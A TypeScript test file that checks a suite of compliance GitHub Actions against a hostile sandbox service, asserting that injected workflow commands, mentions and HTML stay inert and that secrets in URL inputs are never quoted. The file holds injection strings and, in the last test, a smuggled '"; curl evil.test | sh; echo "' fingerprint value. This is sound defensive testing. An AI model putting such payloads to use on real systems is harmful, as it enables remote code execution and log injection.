/**
 * Every sub-action, started in-process as src/main.ts starts it, against a hostile service (the sandbox's hostile seed:
 * workflow commands, line breaks of every kind, mentions and HTML in every free text it serves) and hostile
 * pull-request and cluster text. Nothing it reads may act on the runner, notify anyone or render as HTML; outputs keep
 * the service's values exactly. Then inputs refused, and answers tampered with to fool a gate.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ActionName } from '../../src/actions/index.js';
import { HOSTILE_TEXT, hostileSeed } from '@compliance-actions/sandbox/seeds/hostile';
import { onPullRequest, useFakeGitHub } from '../helpers/github-api.js';
import { useInProcessAction } from '../helpers/in-process.js';
import { useTempDirs } from '../helpers/git.js';
import { pod, podList, running } from '../helpers/pods.js';
import { outputFile, type RunResult } from '../helpers/runner.js';
import { PROFILES, type AnswerProfile } from '@compliance-actions/sandbox/profile';
import { connection, DEMO_TOKEN, useSandbox } from '../helpers/sandbox.js';
import { assertNoSecret, withoutMaskCommands } from '../helpers/secrets.js';

const start = useSandbox();
const runStep = useInProcessAction();
const fakeGitHub = useFakeGitHub();
const { tempDir } = useTempDirs();

const COMPLIANT_COMMIT = '3dfdaa9cbad35a60632a382f8653df6ef6539d28';
const COMPLIANT_FP = '9e5f20177e2131a174e6d70d947a1244919fcb0ef41d1ce7e975f79d068f647d';
const BACKEND_150 = '33907d725bd992d1651784dee23dff369334af6903feb0d75e00eb37a820491f';
/** What a pull request or a cluster says, in the same spirit as the hostile service. */
const PR_TEXT = 'Add retries\r::warning::pr-hostile\r::stop-commands::pr-stop @octocat';

/** Commands the bundle itself issues; anything else at the start of a line would be the service's doing. */
const OWN_COMMAND = /^::(group|endgroup|debug|notice|warning|error|add-mask)( [^:]*)?::/;
/** A mention as GitHub reads one. */
const MENTION = /(?<![A-Za-z0-9_])@[A-Za-z0-9]/;

async function hostileSandbox(profile: AnswerProfile) {
  return start({ seed: hostileSeed(), profile });
}

/** Shown, but inert: the step read hostile text and none of it acted on the runner or on people. */
function assertInert(result: RunResult, markdown: string[] = []): void {
  expect(result.stderr).toBe('');
  // The runner splits lines on \n and \r, log viewers on the rest: none may come from the service.
  expect(result.stdout).not.toMatch(/[\r\v\f\u0085\u2028\u2029]/);
  for (const line of result.stdout.split('\n')) {
    const text = line.trimStart();
    expect(text).not.toContain('##[');
    if (text.startsWith('::')) {
      expect(text).toMatch(OWN_COMMAND);
      expect(text).not.toMatch(/^::add-mask::(hostile|pr-)/);
    }
  }
  for (const md of [result.summary, ...markdown]) {
    expect(md).not.toMatch(MENTION);
    expect(md).not.toMatch(/<img|<!-- hostile|\]\(javascript:/i);
  }
  assertNoSecret(withoutMaskCommands(result.everything), 'the step');
}

/** The hostile text reached the step (the test would prove nothing otherwise), shown neutralised. */
function assertShown(result: RunResult, marker = 'hostile-warning'): void {
  expect(`${result.stdout}\n${result.summary}`).toContain(marker);
}

describe.each(PROFILES)('against a hostile service answering %s', (profile) => {
  it('setup: the service refusing the check with a hostile message', async () => {
    const sandbox = await hostileSandbox(profile);
    sandbox.sandbox.faults.failNext(1, 400);
    const result = await runStep('setup', { inputs: connection(sandbox.url) });
    expect(result.code).toBe(1);
    assertInert(result);
    assertShown(result);
  });

  it.each<[ActionName, Record<string, string>, string, (result: RunResult) => void]>([
    [
      'check-attestations-for-commit',
      {},
      'pr-hostile',
      (result) => expect(result.outputs.outcome).toBe('compliant'),
    ],
    [
      'check-attestations-for-commit',
      { review: 'never-alone' },
      'hostile-warning',
      (result) => expect(result.outputs.outcome).toBe('compliant'),
    ],
    [
      'diff-envs',
      { 'snapshot-1': 'staging~1', 'snapshot-2': 'staging' },
      'hostile-warning',
      (result) => expect(result.outputs.changed).toBe('true'),
    ],
  ])(
    '%s: hostile commit messages, image and pod names on a pull request, and a comment',
    async (name, inputs, marker, check) => {
      const sandbox = await hostileSandbox(profile);
      const api = await fakeGitHub({ pulls: { 7: [{ sha: COMPLIANT_COMMIT, message: PR_TEXT }] } });
      const options = onPullRequest(api, COMPLIANT_COMMIT, {
        inputs: { ...connection(sandbox.url), ...inputs, 'comment-on-pr': 'true' },
      });
      const result = await runStep(name, options);
      check(result);
      const comments = (api.comments.get(7) ?? []).map((c) => c.body);
      expect(comments).toHaveLength(1);
      assertInert(result, comments);
      assertShown(result, marker);
    },
  );

  it('preview-policy and diff-envs with a policy: hostile image names, and a hostile policy from a pull request', async () => {
    const sandbox = await hostileSandbox(profile);
    const api = await fakeGitHub();
    // A pull request's policy is the pull request's: its names and expressions are untrusted text too.
    const dir = tempDir('policy-');
    writeFileSync(
      join(dir, 'policy.yml'),
      '_schema: https://kosli.com/schemas/policy/environment/v1\nartifacts:\n  provenance:\n    required: true\n' +
        '    exceptions:\n      - if: ${{ matches(artifact.name, "datadog") or artifact.name == "\\n::warning::policy-hostile @octocat" }}\n' +
        '  attestations:\n    - type: junit\n      name: "tests\\n::warning::policy-hostile <img src=x>"\n',
    );
    for (const [name, inputs] of [
      ['preview-policy', { environment: 'eu-production', policy: 'policy.yml' }],
      [
        'diff-envs',
        {
          'snapshot-1': 'eu-production~1',
          'snapshot-2': 'eu-production',
          policy: 'policy.yml',
          'fail-on': 'none',
        },
      ],
    ] as const) {
      const options = onPullRequest(api, COMPLIANT_COMMIT, {
        cwd: dir,
        inputs: { ...connection(sandbox.url), ...inputs, 'comment-on-pr': 'true' },
      });
      const result = await runStep(name, options);
      expect(result.code, result.stdout).toBe(0);
      assertInert(
        result,
        (api.comments.get(7) ?? []).map((c) => c.body),
      );
      assertShown(result, 'policy-hostile');
      assertShown(result);
    }
  });

  it.each<[ActionName, Record<string, string>, (result: RunResult) => void]>([
    [
      'report-artifact',
      { flow: 'backend', fingerprint: 'f'.repeat(64), name: 'app.bin' },
      (result) => {
        // A hostile answer to the report; the read-back's page (full answers give it) is kept exactly in the output,
        // and reached the log inert.
        expect(result.code).toBe(0);
        if (profile === 'full') {
          expect(result.outputs['html-url']?.endsWith(`/flows/backend/artifacts/${'f'.repeat(64)}`)).toBe(
            true,
          );
          expect(result.outputs['html-url']).toContain('hostile-warning');
          assertShown(result);
        }
      },
    ],
    [
      'get-artifact',
      { flow: 'backend', fingerprint: COMPLIANT_FP },
      (result) => {
        expect(result.outputs.outcome).toBe('compliant');
        assertShown(result);
      },
    ],
    [
      'list-actions',
      {},
      (result) => {
        // Hostile action names, kept exactly in the output.
        expect(result.outputs.outcome).toBe('failing');
        expect(JSON.parse(result.outputs.failing ?? '[]')).toEqual([`release-webhook${HOSTILE_TEXT}`]);
        assertShown(result);
      },
    ],
    ['list-trails', {}, (result) => expect(result.code).toBe(0)],
    ['list-attestations', { flow: 'backend' }, (result) => expect(result.code).toBe(0)],
  ])('%s: hostile text in what it reads', async (name, inputs, check) => {
    const sandbox = await hostileSandbox(profile);
    const result = await runStep(name, {
      inputs: { ...connection(sandbox.url), ...inputs },
      github: { GITHUB_SHA: COMPLIANT_COMMIT },
    });
    check(result);
    assertInert(result);
  });
});

describe('against a hostile service, where only full answers carry the text', () => {
  it('report-k8s-env: hostile pod and image names, and a hostile answer', async () => {
    // The hostile text is in the report's message, which a minimal answer leaves out.
    const sandbox = await hostileSandbox('full');
    const dir = tempDir('pods-');
    const hostileName = `web\n::warning::pod-hostile\u2028::add-mask::pod-hostile @octocat`;
    writeFileSync(
      join(dir, 'pods.json'),
      JSON.stringify(
        podList([
          pod('web-1', { ns: 'shop', statuses: [running(`nginx:1.27${PR_TEXT}`, 'a'.repeat(64))] }),
          // Unmappable: skipped with a warning that names it.
          pod(hostileName, { ns: 'shop', statuses: [{ name: 'app', image: 'x', imageID: '' }] }),
        ]),
      ),
    );
    const result = await runStep('report-k8s-env', {
      cwd: dir,
      inputs: { ...connection(sandbox.url), environment: 'staging', 'pods-file': 'pods.json' },
    });
    expect(result.code).toBe(0);
    assertInert(result);
    assertShown(result, 'pod-hostile');
    // The output keeps the service's answer exactly.
    expect(result.outputs.message).toMatch(/^Snapshot staging#\d+ created with 1 artifact\s/);
    expect(result.outputs.message?.endsWith(HOSTILE_TEXT)).toBe(true);
  });

  it('report-k8s-env: many environments from one config, each with a hostile answer in its row', async () => {
    const sandbox = await hostileSandbox('full');
    const dir = tempDir('pods-');
    writeFileSync(
      join(dir, 'pods.json'),
      JSON.stringify(
        podList([
          pod('web-1', { ns: 'shop', statuses: [running(`nginx:1.27${PR_TEXT}`, 'a'.repeat(64))] }),
          pod('api-1', { ns: 'payments', statuses: [running('api:2', 'b'.repeat(64))] }),
        ]),
      ),
    );
    const result = await runStep('report-k8s-env', {
      cwd: dir,
      inputs: {
        ...connection(sandbox.url),
        'pods-file': 'pods.json',
        environments:
          'environments:\n  - name: staging\n    namespaces: [shop]\n  - name: production\n    namespaces: [payments]\n',
      },
    });
    expect(result.code).toBe(0);
    assertInert(result);
    assertShown(result);
    // Each environment's answer kept exactly in the output, for a later step to read through env:.
    const environments = JSON.parse(result.outputs.environments ?? '[]') as {
      name: string;
      message: string;
    }[];
    expect(environments.map((e) => e.name)).toEqual(['staging', 'production']);
    for (const e of environments) expect(e.message.endsWith(HOSTILE_TEXT)).toBe(true);
  });

  it('get-deployment: a hostile deployment, its name kept exactly in the output', async () => {
    // Every text of a deployment is only shown: a minimal answer has none, hostile or not.
    const sandbox = await hostileSandbox('full');
    const result = await runStep('get-deployment', {
      inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
    });
    expect(result.outputs.outcome).toBe('found');
    expect(result.outputs['artifact-name']).toBe(`ghcr.io/acme/backend:1.5.0${HOSTILE_TEXT}`);
    assertInert(result);
    assertShown(result);
  });
});

describe('secrets in inputs', () => {
  it('never quotes the credentials of a URL input, even one that cannot be parsed', async () => {
    const result = await runStep('list-actions', {
      inputs: {
        'api-url': 'https://ci-user:hunter2-pass@compliance.test:99999',
        'api-token': DEMO_TOKEN,
        org: 'demo',
      },
    });
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("::error::Invalid input 'api-url'");
    expect(result.everything).not.toContain('hunter2-pass');
    expect(result.everything).not.toContain('ci-user');
  });
});

describe.each(PROFILES)('answers that would fool a gate, the sandbox answering %s', (profile) => {
  /** The sandbox's own answer to `path`, changed by `edit`, served once in its place. */
  async function tampered(path: string, edit: (answer: Record<string, unknown>) => void) {
    const sandbox = await start({ profile });
    const response = await sandbox.fetch(path);
    expect(response.status).toBe(200);
    const answer = (await response.json()) as Record<string, unknown>;
    edit(answer);
    sandbox.sandbox.faults.respondNext(1, { status: 200, body: answer });
    return sandbox;
  }

  describe('diff-envs: an answer that names no snapshot is not confirmed, never "no differences" as asked', () => {
    const notConfirmed =
      'Not confirmed: the answer names no snapshot for snappish1 and snappish2, so it cannot be shown to be about ' +
      'staging and staging as asked.';
    const unnamed = (inputs: Record<string, string> = {}) =>
      tampered('/env-diff/demo?snappish1=staging&snappish2=staging', (answer) => {
        for (const group of Object.values(answer)) delete (group as Record<string, unknown>).snapshot_id;
      }).then((sandbox) =>
        runStep('diff-envs', {
          inputs: { ...connection(sandbox.url), 'snapshot-1': 'staging', 'snapshot-2': 'staging', ...inputs },
        }),
      );

    it('without a gate it goes on, and the summary and log say it is not confirmed', async () => {
      const result = await unnamed();
      expect(result.code).toBe(0);
      expect(result.outputs).toMatchObject({
        outcome: 'same',
        changed: 'false',
        'snapshot-1-id': '',
        'snapshot-2-id': '',
      });
      expect(result.stdout).toContain(`\n${notConfirmed}\n`);
      expect(result.stdout).not.toContain('::error');
      expect(result.summary).toContain(
        `### Environment diff: staging → staging: no differences\n\n${notConfirmed}\n`,
      );
      // Never "both name the same snapshot": the answer does not say which it is.
      expect(result.summary).not.toContain('Both name the same snapshot');
      expect(outputFile(result, 'result-file')).toMatchObject({
        outcome: 'same',
        snapshot1: { expression: 'staging', id: null, name: 'staging' },
        snapshot2: { expression: 'staging', id: null, name: 'staging' },
      });
    });

    it.each(['fail-on-diff', 'fail-on-non-compliant'])(
      'with %s it is could not check (outcome error), the diff written all the same',
      async (gate) => {
        const result = await unnamed({ [gate]: 'true' });
        expect(result.code).toBe(1);
        expect(result.outputs).toMatchObject({ outcome: 'error', 'snapshot-1-id': '', 'snapshot-2-id': '' });
        expect(result.stdout.trimEnd().split('\n').at(-1)).toBe(
          `::error::${gate}: could not check. ${notConfirmed}`,
        );
        expect(result.summary).toContain('<sub>Outcome: **error**');
        expect(result.summary).toContain(notConfirmed);
        expect(outputFile(result, 'result-file')).toMatchObject({
          outcome: 'error',
          error: { kind: 'unexpected-response', message: `${gate}: could not check. ${notConfirmed}` },
        });
      },
    );
  });

  it('get-deployment: a replaced fingerprint that is not a fingerprint never reaches the output', async () => {
    const sandbox = await tampered(`/deployments/demo/staging/${BACKEND_150}`, (answer) => {
      // A minimal answer names no replaced artifact: the tampered one names this one alone.
      const replaced = (answer.replaced_artifact ?? {}) as Record<string, unknown>;
      answer.replaced_artifact = { ...replaced, fingerprint: '"; curl evil.test | sh; echo "' };
      // Named as asked, so the step reads it (a minimal answer names neither: not confirmed).
      answer.fingerprint = BACKEND_150;
      answer.env_name = 'staging';
    });
    const result = await runStep('get-deployment', {
      inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
    });
    expect(result.outputs.outcome).toBe('found');
    expect(result.outputs['replaced-fingerprint']).toBe('');
    expect(result.everything).not.toContain('curl evil.test');
    // It replaced something the step cannot read: never "nothing".
    expect(result.summary).not.toContain('| Replaced | nothing |');
  });
});
